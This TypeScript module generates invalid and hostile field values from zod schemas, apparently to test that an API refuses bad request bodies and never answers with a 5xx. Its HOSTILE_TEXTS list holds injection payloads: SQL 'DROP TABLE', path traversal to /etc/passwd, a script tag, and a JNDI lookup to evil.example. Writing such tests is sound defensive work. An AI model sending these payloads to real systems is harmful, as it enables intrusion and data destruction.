import type { z } from 'zod';

/** Path in a body: keys and indexes. */
export type Path = readonly (string | number)[];

/**
 * One value put into an otherwise valid body. `isRefused`: the contract requires 4xx; otherwise anything but a 5xx is
 * right.
 */
export type WrongValue = {
  readonly path: Path;
  readonly what: string;
  /** `undefined` leaves the field out. */
  readonly value: unknown;
  readonly isRefused: boolean;
  /** The other path that a refusal may name: the nearest union around it. */
  readonly choice?: Path | undefined;
};

/** The used internals of a zod schema. Source: zod.dev/packages/core, "Internals". */
type Definition = {
  readonly type: string;
  readonly innerType?: z.ZodType;
  readonly element?: z.ZodType;
  readonly shape?: Readonly<Record<string, z.ZodType>>;
  readonly options?: readonly z.ZodType[];
  readonly in?: z.ZodType;
  readonly out?: z.ZodType;
  readonly getter?: () => z.ZodType;
  readonly keyType?: z.ZodType;
  readonly valueType?: z.ZodType;
  readonly format?: string;
};
type Bounds = {
  readonly minLength?: number | null;
  readonly maxLength?: number | null;
  readonly minValue?: number | null;
  readonly maxValue?: number | null;
  readonly isInt?: boolean;
};

/** A value of each JSON type; a field accepts some types and refuses the others. */
const OF_KIND = {
  string: ['7'],
  number: [7],
  boolean: [true],
  array: [[]],
  object: [{}],
} as const;
type Kind = keyof typeof OF_KIND;
const KINDS = Object.keys(OF_KIND) as Kind[];

const HOSTILE_TEXTS = [
  '__proto__',
  'constructor',
  '../../../../etc/passwd',
  "' OR 1=1; DROP TABLE device --",
  '<script>alert(1)</script>',
  '${jndi:ldap://evil.example}',
  '\u202e\u200b\ufeff',
  '%00%2e%2e',
];

/** Values that are not an instant with a zone. Source: the API documentation, the `expirationDate` rule. */
const NO_INSTANTS = [
  '',
  'now',
  '2026-01-01',
  '2026-01-01T00:00:00',
  '2026-13-01T00:00:00Z',
  '2026-02-30T00:00:00Z',
  '2026-01-01T25:00:00Z',
  '1700000000000',
];

/**
 * Returns every wrong value for every field of `schema`, derived from the contract: types, bounds, choices, absence,
 * null and hostile text.
 */
export function* wrongValues(
  schema: z.ZodType,
  good: unknown,
  path: Path = [],
  choice?: Path,
): Generator<WrongValue> {
  const { inner, isOptional, isNullable } = unwrap(schema);
  const { options, shape, element, valueType } = definitionOf(inner);
  if (path.length > 0) {
    yield { path, choice, what: 'null', value: null, isRefused: !isNullable };
    if (typeof path.at(-1) === 'string') {
      yield { path, choice, what: 'absent', value: undefined, isRefused: !isOptional };
    }
    for (const kind of kindsRefusedBy(inner)) {
      for (const value of OF_KIND[kind]) yield { path, choice, what: `is a ${kind}`, value, isRefused: true };
    }
    for (const each of beyondBounds(inner, good)) yield { path, choice, ...each };
  }
  if (options !== undefined) {
    const accepted = options.find((option) => option.safeParse(good).success);
    if (accepted !== undefined) yield* wrongFields(accepted, good, path, path);
  } else if (shape !== undefined || element !== undefined || valueType !== undefined) {
    yield* wrongFields(inner, good, path, choice);
  }
}

/** Does the same for the fields and entries within `good`, not for itself. */
function* wrongFields(schema: z.ZodType, good: unknown, path: Path, choice?: Path): Generator<WrongValue> {
  const { shape, element, valueType } = definitionOf(unwrap(schema).inner);
  for (const [key, field] of Object.entries(shape ?? {})) {
    if (isObject(good) && key in good) yield* wrongValues(field, good[key], [...path, key], choice);
  }
  if (element !== undefined && Array.isArray(good) && good.length > 0) {
    yield* wrongValues(element, good[0], [...path, 0], choice);
  }
  // Any entry of a record represents all, and none is required.
  const [entry] = isObject(good) ? Object.entries(good) : [];
  if (valueType !== undefined && entry !== undefined) {
    for (const each of wrongValues(valueType, entry[1], [...path, entry[0]], choice))
      if (each.what !== 'absent') yield each;
  }
}

/** Returns the fields of `schema` that `good` does not have: a test that starts from it would never try them. */
export function* fieldsWithout(schema: z.ZodType, good: unknown, path: Path = []): Generator<string> {
  const { inner } = unwrap(schema);
  const { options, shape, element } = definitionOf(inner);
  const accepted = options?.find((option) => option.safeParse(good).success);
  if (accepted !== undefined) yield* fieldsWithout(accepted, good, path);
  for (const [key, field] of Object.entries(shape ?? {})) {
    if (isObject(good) && good[key] !== undefined) yield* fieldsWithout(field, good[key], [...path, key]);
    else yield [...path, key].join('.');
  }
  if (element !== undefined) {
    if (Array.isArray(good) && good.length > 0) yield* fieldsWithout(element, good[0], [...path, 0]);
    else yield [...path, 0].join('.');
  }
}

type Beyond = Omit<WrongValue, 'path' | 'choice'>;

function* beyondBounds(schema: z.ZodType, good: unknown): Generator<Beyond> {
  const { type } = definitionOf(schema);
  if (type === 'enum' || type === 'literal') {
    for (const value of ['no such choice', '', '__proto__'])
      yield { what: `choice ${value}`, value, isRefused: true };
  }
  if (type === 'string') yield* wrongTexts(schema);
  if (type === 'number') yield* wrongNumbers(schema);
  if (type === 'array' && Array.isArray(good)) yield* wrongLists(schema, good);
}

function* wrongTexts(schema: z.ZodType): Generator<Beyond> {
  const { minLength, maxLength } = boundsOf(schema);
  const isChecked = hasChecks(schema);
  for (const value of ['\0', 'a\0b', '\ud800', 'x\udfff'])
    yield { what: `unstorable text ${JSON.stringify(value)}`, value, isRefused: isChecked };
  for (const value of HOSTILE_TEXTS) yield { what: `hostile text ${value}`, value, isRefused: false };
  if (typeof minLength === 'number' && minLength > 0) yield { what: 'empty', value: '', isRefused: true };
  if (typeof maxLength === 'number')
    yield { what: 'too long', value: 'x'.repeat(maxLength + 1), isRefused: true };
  if (definitionOf(schema).format === 'datetime') {
    for (const value of NO_INSTANTS) yield { what: `no instant ${value}`, value, isRefused: true };
  }
}

function* wrongNumbers(schema: z.ZodType): Generator<Beyond> {
  const { minValue, maxValue, isInt } = boundsOf(schema);
  for (const value of [-1, 0, 1e300, -1e300, 2 ** 53, 0.1])
    yield { what: `odd ${value}`, value, isRefused: false };
  if (isInt === true) yield { what: 'a fraction', value: 1.5, isRefused: true };
  if (typeof minValue === 'number' && Number.isSafeInteger(minValue - 1))
    yield { what: 'too small', value: minValue - 1, isRefused: true };
  if (typeof maxValue === 'number' && Number.isSafeInteger(maxValue + 1))
    yield { what: 'too large', value: maxValue + 1, isRefused: true };
}

function* wrongLists(schema: z.ZodType, good: readonly unknown[]): Generator<Beyond> {
  const { min, max } = itemsOf(schema);
  yield { what: 'empty list', value: [], isRefused: min > 0 };
  if (max === undefined) return;
  const value = Array.from({ length: max + 1 }, () => good[0]);
  yield { what: 'too many', value, isRefused: true };
}

/** Returns `body` with the wrong value in it; the rest is shared, so do not change it. */
export function withValue(body: unknown, path: Path, value: unknown): unknown {
  const [key, ...rest] = path;
  if (key === undefined) return value;
  if (Array.isArray(body))
    return body.map((item: unknown, index) => (index === key ? withValue(item, rest, value) : item));
  if (!isObject(body)) return body;
  return { ...body, [key]: withValue(body[key], rest, value) };
}

type Unwrapped = { inner: z.ZodType; isOptional: boolean; isNullable: boolean };

/** Returns the schema under optional, nullable, default, a transformation or a self-reference. */
function unwrap(schema: z.ZodType): Unwrapped {
  const { type, innerType, options, in: before, out, getter } = definitionOf(schema);
  if (innerType !== undefined) {
    const below = unwrap(innerType);
    return {
      inner: below.inner,
      isOptional: type === 'optional' || type === 'default' || type === 'prefault' || below.isOptional,
      isNullable: below.isNullable || type === 'nullable',
    };
  }
  if (getter !== undefined) return unwrap(getter());
  if (before !== undefined && out !== undefined)
    return unwrap(definitionOf(before).type === 'transform' ? out : before);
  const isOpen = type === 'custom' || type === 'unknown' || type === 'any' || options !== undefined;
  return {
    inner: schema,
    isOptional: isOpen && schema.safeParse(undefined).success,
    isNullable: type === 'null' || (isOpen && schema.safeParse(null).success),
  };
}

function kindsRefusedBy(schema: z.ZodType): Kind[] {
  const accepted = kindsTakenBy(schema);
  return accepted === undefined ? [] : KINDS.filter((kind) => !accepted.has(kind));
}

/** Returns the JSON types that a schema may accept; undefined if they cannot be derived. */
function kindsTakenBy(schema: z.ZodType): Set<Kind> | undefined {
  const { inner } = unwrap(schema);
  const { type, options } = definitionOf(inner);
  if (options !== undefined) {
    const each = options.map(kindsTakenBy);
    return each.includes(undefined) ? undefined : new Set(each.flatMap((kinds) => [...(kinds ?? [])]));
  }
  if (type === 'record') return new Set(['object']);
  if (type === 'null') return new Set();
  // The contract's statement about a custom check.
  const shown = type === 'custom' ? overrideOf(inner)['type'] : type;
  if (type === 'enum' || type === 'literal') return valuesOf(inner);
  const kind = KINDS.find((each) => each === shown);
  return kind === undefined ? undefined : new Set([kind]);
}

/** Returns the types of the values of an enum or a literal. */
function valuesOf(schema: z.ZodType): Set<Kind> {
  const { entries, values } = schema.def as {
    entries?: Readonly<Record<string, unknown>>;
    values?: readonly unknown[];
  };
  const named = [...Object.values(entries ?? {}), ...(values ?? [])].map((value) => typeof value);
  return new Set(KINDS.filter((kind) => named.some((each) => each === kind)));
}

function definitionOf(schema: z.ZodType): Definition {
  return schema.def as Definition;
}

/** Returns the document's description of a schema instead of zod's. */
function overrideOf(schema: z.ZodType): Readonly<Record<string, unknown>> {
  const override = schema.meta()?.['override'];
  return isObject(override) ? override : {};
}

function boundsOf(schema: z.ZodType): Bounds {
  const { minLength, maxLength, minValue, maxValue, isInt } = schema as Bounds;
  const shown = overrideOf(schema) as Bounds;
  return {
    minLength: minLength ?? shown.minLength ?? null,
    maxLength: maxLength ?? shown.maxLength ?? null,
    minValue: minValue ?? null,
    maxValue: maxValue ?? null,
    isInt: isInt ?? false,
  };
}

function hasChecks(schema: z.ZodType): boolean {
  const { checks, format } = schema.def as { checks?: readonly unknown[]; format?: unknown };
  return (checks?.length ?? 0) > 0 || format !== undefined;
}

function itemsOf(schema: z.ZodType): { min: number; max: number | undefined } {
  const { checks } = schema.def as {
    checks?: readonly { _zod: { def: { check: string; maximum?: number; minimum?: number } } }[];
  };
  const all = (checks ?? []).map(({ _zod }) => _zod.def);
  return {
    min: all.find(({ check }) => check === 'min_length')?.minimum ?? 0,
    max: all.find(({ check }) => check === 'max_length')?.maximum,
  };
}

function isObject(value: unknown): value is Readonly<Record<string, unknown>> {
  return typeof value === 'object' && value !== null && !Array.isArray(value);
}
